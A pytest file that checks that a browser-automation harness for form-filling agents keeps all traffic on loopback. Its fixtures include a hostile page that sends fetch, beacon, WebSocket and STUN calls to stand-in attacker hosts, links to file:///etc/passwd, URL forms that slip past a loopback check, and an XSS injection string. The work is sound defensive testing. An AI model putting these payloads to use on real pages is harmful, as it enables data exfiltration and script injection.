"""Nothing leaves loopback, whatever a plan says or a page tries: read at the browser's sockets, not in the page."""

from __future__ import annotations

import asyncio
import random
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dllm_rl.records.plan import parse_plan
from dllm_rl.records.tasks import Fault, Outcome
from dllm_rl.session import Session
from harness.browser import FOREIGN, BrowserPool, Isolation
from harness.environments import FormEnvironment, FormSettings
from harness.execute.executors import TrustedExecutor
from harness.execute.steps import make_steps
from harness.rewards import Shaped, Success
from tests.harness.conftest import Lab
from tests.harness.hostile import hostile_plan
from tests.harness.sockets import Sockets, read_sockets

DEAD_PROXY = "127.0.0.1:9"


def run_hostile(settings: FormSettings, num_plans: int, seed: int, log: Path) -> tuple[list[Outcome], Sockets]:
    async def run() -> list[Outcome]:
        environment = FormEnvironment(settings)
        environment.pool = BrowserPool(arguments=[f"--log-net-log={log}"])
        async with environment:
            tasks = environment.tasks("train")
            pages = await environment.observe_many(tasks)
            rng = random.Random(seed)
            chosen = [rng.randrange(len(tasks)) for _ in range(num_plans)]
            pairs = [(tasks[at], hostile_plan(pages[at], rng)) for at in chosen]
            outcomes = await environment.run_many(pairs)
            gold = [(task, environment.gold_plan(task, page)) for task, page in zip(tasks, pages, strict=True)]
            after = await environment.run_many(gold)
            assert [Success()(outcome) for outcome in after] == [1.0] * len(gold), "the pool is not what it was"
        return outcomes

    return asyncio.run(run()), read_sockets(log)


def check_hostile(outcomes: list[Outcome], sockets: Sockets) -> None:
    assert sockets.connected
    assert sockets.foreign == ()
    assert DEAD_PROXY not in sockets.connected
    assert sockets.num_datagrams == 0
    lost = [outcome.fault_reason for outcome in outcomes if outcome.fault is Fault.ENVIRONMENT]
    assert lost == []
    assert all(Shaped()(outcome) < 1.0 for outcome in outcomes)


@pytest.mark.browser
@pytest.mark.parametrize("isolation", ["page", "arena"])
def test_hostile_plans_reach_nothing_but_loopback(
    session: Session[FormEnvironment], tmp_path: Path, isolation: Isolation
) -> None:
    settings = FormSettings(
        counts={"train": 15},
        cache_dir=session.environment.settings.cache_dir,
        isolation=isolation,
        shares_identical=False,
    )
    check_hostile(*run_hostile(settings, 60, 1, tmp_path / "net.json"))


@pytest.mark.soak
@pytest.mark.timeout(7200)
@pytest.mark.parametrize("chunk", range(10))
def test_a_thousand_hostile_plans_reach_nothing_but_loopback(
    session: Session[FormEnvironment], tmp_path: Path, chunk: int
) -> None:
    settings = FormSettings(
        counts={"train": 15}, cache_dir=session.environment.settings.cache_dir, shares_identical=False
    )
    check_hostile(*run_hostile(settings, 1000, 100 + chunk, tmp_path / "net.json"))


EVIL = """<h1>E</h1><form><label>Name <input name=name></label><button type=button>Go</button></form>
<a href="http://203.0.113.7/" target=_blank>Away</a><a href="file:///etc/passwd">File</a>
<a href="/file" download=x>Load</a>
<img src="http://evil.example/a.png"><iframe src="https://203.0.113.7/"></iframe><iframe src="file:///etc/passwd"></iframe>
<link rel=prefetch href="http://evil.example/p"><link rel=dns-prefetch href="//evil.example">
<script>
fetch("https://evil.example/f").catch(() => {}); navigator.sendBeacon("http://evil.example/b", "x");
try { new WebSocket("ws://203.0.113.7/"); } catch {}
navigator.serviceWorker?.register("/sw.js").catch(() => {});
(async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:203.0.113.7:3478" }] });
  peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); })();
addEventListener("click", () => { window.open("http://evil.example/w"); });
</script>"""


@pytest.mark.browser
@pytest.mark.parametrize("isolation", ["context", "origin", "page", "arena"])
def test_a_page_that_tries_to_get_out_cannot(lab: Lab, tmp_path: Path, isolation: Isolation) -> None:
    """The control of the instrument: here the sockets show that the page tried, and that it came to the dead proxy."""
    lab.show(EVIL)
    log = tmp_path / "net.json"

    async def visit() -> tuple[list[str], str]:
        pool = BrowserPool(arguments=[f"--log-net-log={log}"])
        try:
            async with pool.tab(isolation) as tab:
                await tab.goto(lab.base_url)
                async with tab.acting(is_real=True):
                    for name in ("Away", "File", "Load", "Go"):
                        kind = "button" if name == "Go" else "link"
                        step = {
                            "verb": "click",
                            "value": None,
                            "page": 1,
                            "key": {"kind": kind, "field": "", "name": name},
                        }
                        page = {"number": 1, "title": "E", "keys": ["text name"]}
                        await tab.call("perform", {"steps": [step], "pages": [page]}, seconds=3)
                await asyncio.sleep(0.5)
                deadline = asyncio.get_running_loop().time() + 20
                while len(tab.context.pages) > 1 and asyncio.get_running_loop().time() < deadline:  # noqa: ASYNC110
                    await asyncio.sleep(0.05)
                assert len(tab.context.pages) == 1
                state = "navigator.permissions.query({ name: 'geolocation' }).then((answer) => answer.state)"
                assert await tab.page.evaluate(state) == "denied"
                return list(tab.foreign), tab.page.url
        finally:
            await pool.close()

    foreign, url = lab.run(visit())
    sockets = read_sockets(log)
    assert sockets.foreign == ()
    assert sockets.num_datagrams == 0
    assert url.startswith("http://")
    if isolation == "context":
        assert any("evil.example" in address for address in foreign)
        assert all(FOREIGN.match(address) for address in foreign)
    else:
        assert DEAD_PROXY in sockets.connected


@pytest.mark.parametrize(
    ("address", "is_foreign"),
    [
        ("http://127.0.0.1:8000/r/1/", False),
        ("http://e12.localhost:8000/", False),
        ("ws://localhost:1/", False),
        ("about:blank", False),
        ("http://127.0.0.1.evil.example/", True),
        ("http://127.0.0.1@evil.example/", True),
        ("http://localhost.evil.example/", True),
        ("https://evil.example/?http://127.0.0.1/", True),
        ("file:///etc/passwd", True),
        ("ftp://127.0.0.1/", True),
    ],
)
def test_what_counts_as_foreign(address: str, is_foreign: bool) -> None:
    assert bool(FOREIGN.match(address)) == is_foreign


@given(st.text(max_size=400))
def test_no_text_becomes_a_step_without_a_control(text: str) -> None:
    """Whatever is written, a step acts on a control that the scout saw, or on nothing."""
    from tests.harness.conftest import read_page

    seen = {"kind": "text", "name": "A", "group": "", "options": [], "required": False, "disabled": False, "value": ""}
    page = read_page({"title": "T", "controls": [{**seen, "field": "a"}]})
    for step in make_steps(parse_plan(text + '\nfill p1.e1 "' + text.replace('"', "") + '"'), page):
        assert step.control is page.controls[0] or step.refusal is not None


@pytest.mark.browser
def test_values_are_data(lab: Lab) -> None:
    """What would be script in a page's source stands in the field as it was written."""
    value = "'); document.title = 'owned'; ('</script><img onerror=alert(1)>${1}"
    execution = lab.plan(
        "<h1>V</h1><form><input name=a aria-label=A></form>", f'fill p1.e1 "{value}"', TrustedExecutor()
    )
    assert execution.values == {"a": (value,)}
    assert execution.dialogs == ()
